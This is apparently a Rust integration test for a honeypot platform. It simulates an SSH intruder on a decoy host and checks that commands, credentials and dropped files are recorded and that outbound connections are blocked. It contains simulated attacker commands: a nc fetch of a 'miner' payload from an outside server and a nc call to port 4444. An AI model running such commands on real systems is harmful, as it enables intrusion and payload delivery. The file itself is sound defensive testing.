//! Intruders in a shell: what they type, drop and send is on record, nothing of theirs gets out, and nothing of it is lost
//! when we are killed meanwhile. Skipped, with the reason, where no engine answers or the test is not root.

use std::{process::Stdio, time::Duration};

use anyhow::{Context, Result, ensure};
use decnet_tests::{
    Api, Stack, eventually,
    lan::{Neighbour, Terminal},
    stack::Target,
};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::ground::{Ground, account, find, lines_of};

/// From the last client's end until everything is visible.
const VISIBLE: Duration = Duration::from_secs(2);
const DECKIES: &str = "[web~]\nservices = ssh, http\n";

/// Everything that the terminal of a session showed, or that was typed into it.
async fn transcript(api: &Api, decky: &str, sid: &str, channel: &str) -> Result<String> {
    let mut text = String::new();
    let mut offset = 0;
    loop {
        let page = api.get(&format!("/transcripts/{decky}/{sid}?limit=5000&offset={offset}")).await?;
        let events = page["events"].as_array().context("no events")?;
        for event in events.iter().filter(|event| event[1] == channel) {
            text.push_str(event[2].as_str().unwrap_or_default());
        }
        offset += events.len();
        if page["has_more"] != true {
            return Ok(text);
        }
    }
}

/// A server that an intruder would fetch his tools from.
async fn outside(at: &Neighbour) -> Result<(tokio::process::Child, tempfile::TempDir)> {
    let folder = tempfile::tempdir()?;
    std::fs::write(folder.path().join("payload"), b"a miner")?;
    let log = std::fs::File::create(folder.path().join("access.log"))?;
    let mut server = at.command("python3");
    server.args(["-u", "-m", "http.server", "80", "--directory"]).arg(folder.path());
    let server = server.stdin(Stdio::null()).stdout(Stdio::null()).stderr(log).spawn()?;
    let url = "http://127.0.0.1/payload";
    eventually("the server outside", Duration::from_secs(20), || async {
        Ok((at.curl(&[url]).await?.stdout == "a miner").then_some(()))
    })
    .await?;
    Ok((server, folder))
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// The captured file whose path in the decky ends so.
fn captured<'a>(rows: &'a [Value], path: &str) -> Result<&'a Value> {
    let is = |row: &&Value| row["fields"]["orig_path"].as_str().is_some_and(|at| at == path);
    rows.iter().find(is).map(|row| &row["fields"]).with_context(|| format!("{path} is not among {rows:?}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shell_is_recorded_its_files_are_kept_and_nothing_gets_out() -> Result<()> {
    let Some(ground) = Ground::find()? else { return Ok(()) };
    let stack = ground.stack(&[("DECNET_ORCHESTRATE_INTERVAL", "1")]).await?;
    let targets = ground.deploy(&stack, DECKIES).await?;
    let web = find(&targets, "web")?;
    let (user, password) = account(web)?;
    let api = Api::first_login(&stack.api(), stack.folder()).await?;
    let (intruder, server) = (ground.lan.plug()?, ground.lan.plug()?);
    let (_server, served) = outside(&server).await?;

    // A command, and a terminal.
    let refused = intruder.ssh(web.ip, user, "wrong", "id").await?;
    ensure!(refused.stderr.contains("Permission denied"), "{refused:?}");
    let said = intruder.ssh(web.ip, user, password, "id -un; cat /etc/os-release; exit 7").await?;
    ensure!(said.code == Some(7) && said.stdout.starts_with(&format!("{user}\n")), "{said:?}");
    let mut terminal = Terminal::open(intruder.ssh_command(web.ip, user, password, &["-tt"]))?;
    let who = terminal.type_line("id -un; tty; hostname").await?;
    ensure!(who.contains(user) && who.contains("/dev/pts/"), "{who:?}");
    terminal.type_line("cd /tmp; echo 'echo pwned' > dropped.sh; chmod +x dropped.sh").await?;
    let ran = terminal.type_line("./dropped.sh").await?;
    ensure!(ran.contains("pwned"), "{ran:?}");
    // By hand: Debian's static busybox has a wget that cannot resolve even an address.
    let fetched = format!("echo 'GET /payload' | nc -w 2 {} 80 >/tmp/payload; echo code=$?", server.ip);
    let fetched = terminal.type_line(&fetched).await?;
    ensure!(!fetched.contains("code=0\r"), "{fetched:?}");
    let called = terminal.type_line(&format!("nc -w 2 {} 4444 </dev/null; echo code=$?", server.ip)).await?;
    ensure!(!called.contains("code=0\r"), "{called:?}");
    let left = terminal.leave().await?;
    ensure!(left.code == Some(0) || left.code == Some(1), "{left:?}");

    // Within two seconds: session, transcript, commands, credential, the dropped file, the attempts.
    let sid = eventually("the recorded session", VISIBLE, || async {
        let rows = lines_of(&api, "session_recorded", intruder.ip).await?;
        Ok(rows.first().and_then(|row| Some(row["fields"]["sid"].as_str()?.to_owned())))
    })
    .await?;
    eventually("everything of the session", VISIBLE, || async {
        let shown = transcript(&api, &web.name, &sid, "o").await?;
        ensure!(shown.contains("pwned") && shown.contains("dropped.sh"), "{shown:?}");
        let typed = transcript(&api, &web.name, &sid, "i").await?;
        ensure!(typed.contains("./dropped.sh\r"), "{typed:?}");
        let commands = lines_of(&api, "command", intruder.ip).await?;
        let has = |text: &str| commands.iter().any(|row| row.to_string().contains(text));
        ensure!(has("id -un; tty; hostname") && has("./dropped.sh") && has("GET /payload"), "{commands:?}");
        let files = lines_of(&api, "file_captured", intruder.ip).await?;
        let dropped = captured(&files, "/tmp/dropped.sh")?;
        ensure!(
            dropped["sha256"] == sha256(b"echo pwned\n").as_str() && dropped["sid"] == sid.as_str(),
            "{dropped}"
        );
        let blocked = lines_of(&api, "egress_blocked", intruder.ip).await?;
        let to = |port: &str| {
            blocked.iter().any(|row| {
                let fields = &row["fields"];
                fields["dst"] == server.ip.to_string().as_str() && fields["port"].to_string().contains(port)
            })
        };
        let all = api.all_logs("event:egress_blocked").await?;
        ensure!(to("80") && to("4444"), "{fetched:?} {called:?} {blocked:?} of {all:?}");
        let credentials = api.get("/credentials?limit=100").await?;
        let known = credentials.to_string();
        ensure!(known.contains("\"wrong\"") && known.contains(&format!("{password:?}")), "{credentials}");
        let sessions = api.get(&format!("/sessions?attacker_ip={}&limit=100", intruder.ip)).await?;
        ensure!(sessions["total"].as_u64() >= Some(3), "{sessions}");
        Ok(Some(()))
    })
    .await?;
    let access = std::fs::read_to_string(served.path().join("access.log"))?;
    ensure!(!access.contains(&web.ip.to_string()), "the decky got out: {access}");

    uploads_are_kept(&stack, &api, &intruder, web, (user, password)).await?;
    our_own_files_are_not(&stack, &api).await?;
    let folder = stack.folder().to_owned();
    stack.stop().await?;
    ground.ensure_nothing_left(&folder)
}

/// By sftp, by scp, and by scp's old protocol where the shell has one.
async fn uploads_are_kept(
    stack: &Stack,
    api: &Api,
    intruder: &Neighbour,
    web: &Target,
    account: (&str, &str),
) -> Result<()> {
    let at = web.ip;
    let folder = tempfile::tempdir()?;
    let mut wanted = Vec::new();
    for (n, name) in ["by-scp.bin", "by-sftp.bin"].into_iter().enumerate() {
        let bytes: Vec<u8> =
            (0..200_000_usize).map(|i| u8::try_from((i * 7 + i / 251 + n) % 256).unwrap_or(0)).collect();
        let path = folder.path().join(name);
        std::fs::write(&path, &bytes)?;
        let (path, to) = (path.to_string_lossy().into_owned(), format!("/tmp/{name}"));
        let sent = match n {
            0 => intruder.scp(at, account, &path, &to, false).await?,
            _ => intruder.sftp(at, account, &format!("put {path} {to}\nls -l /tmp\n")).await?,
        };
        ensure!(sent.code == Some(0), "{name}: {sent:?}");
        wanted.push((to, bytes));
    }
    for (path, bytes) in wanted {
        let fields = eventually("the upload", VISIBLE, || async {
            let rows = lines_of(api, "file_captured", intruder.ip).await?;
            captured(&rows, &path).map(|fields| Some(fields.clone()))
        })
        .await?;
        ensure!(fields["sha256"] == sha256(&bytes).as_str(), "{path}: {fields}");
        let stored = fields["stored_as"].as_str().context("not stored")?;
        let kept = api.bytes(&format!("/artifacts/{}/{stored}", web.name)).await?;
        ensure!(kept == bytes, "{path}: {} bytes are not the {} that were sent", kept.len(), bytes.len());
        let on_disk = stack.folder().join("artifacts").join(&web.name).join("ssh").join(stored);
        ensure!(on_disk.is_file(), "{}", on_disk.display());
    }
    Ok(())
}

/// What the orchestrator plants is nobody's upload.
async fn our_own_files_are_not(stack: &Stack, api: &Api) -> Result<()> {
    let planted = eventually("planted files", Duration::from_mins(2), || async {
        let page = api.get("/realism/synthetic-files?state=planted&limit=500").await?;
        let paths: Vec<String> = page["data"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|row| row["path"].as_str().map(str::to_owned))
            .collect();
        ensure!(!paths.is_empty(), "{page}\n{}", stack.log());
        Ok(Some(paths))
    })
    .await?;
    // Whatever would have told of it has come by now: later lines of the same output have.
    let rows = api.all_logs("event:file_captured").await?;
    let path = |row: &Value| row["fields"]["orig_path"].as_str().unwrap_or_default().to_owned();
    let ours: Vec<_> =
        rows.iter().map(path).filter(|at| planted.contains(at) || !at.starts_with("/tmp/")).collect();
    ensure!(ours.is_empty(), "what we placed ourselves was captured: {ours:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kills_during_a_session_lose_nothing_of_it() -> Result<()> {
    let Some(ground) = Ground::find()? else { return Ok(()) };
    let stack = ground.stack(&[]).await?;
    let targets = ground.deploy(&stack, DECKIES).await?;
    let web = find(&targets, "web")?;
    let (user, password) = account(web)?;
    let api = Api::first_login(&stack.api(), stack.folder()).await?;
    let intruder = ground.lan.plug()?;
    let mut terminal = Terminal::open(intruder.ssh_command(web.ip, user, password, &["-tt"]))?;
    let victims = ["decnet-collector", "decnet-agent", "decnet-agent", "decnet-collector", "nats-server"];
    for (n, victim) in victims.iter().enumerate() {
        let said = terminal.type_line(&format!("echo before-$((40 + {n}))")).await?;
        ensure!(said.contains(&format!("before-4{n}")), "{said:?}");
        let killed = eventually("the victim being there", Duration::from_secs(20), || async {
            Ok(Some(stack.kill(victim)?).filter(|n| *n > 0))
        })
        .await?;
        ensure!(killed == 1, "{killed} processes of {victim}");
        // At once, while nobody looks.
        terminal.type_line(&format!("echo evidence-{n} > /tmp/evidence-{n}")).await?;
    }
    terminal.leave().await?;
    let sid = eventually("the recorded session", Duration::from_mins(1), || async {
        let rows = lines_of(&api, "session_recorded", intruder.ip).await?;
        Ok(rows.first().and_then(|row| Some(row["fields"]["sid"].as_str()?.to_owned())))
    })
    .await?;
    let shown = transcript(&api, &web.name, &sid, "o").await?;
    eventually("everything of the session", Duration::from_secs(30), || async {
        let commands = lines_of(&api, "command", intruder.ip).await?;
        let files = lines_of(&api, "file_captured", intruder.ip).await?;
        for n in 0..victims.len() {
            ensure!(shown.contains(&format!("before-4{n}")), "{shown:?}");
            let typed = format!("echo evidence-{n} > /tmp/evidence-{n}");
            let stored = commands.iter().filter(|row| row["fields"].to_string().contains(&typed)).count();
            ensure!(stored == 1, "{typed:?} is stored {stored} times: {commands:?}");
            captured(&files, &format!("/tmp/evidence-{n}"))?;
        }
        Ok(Some(()))
    })
    .await?;
    stack.stop().await
}
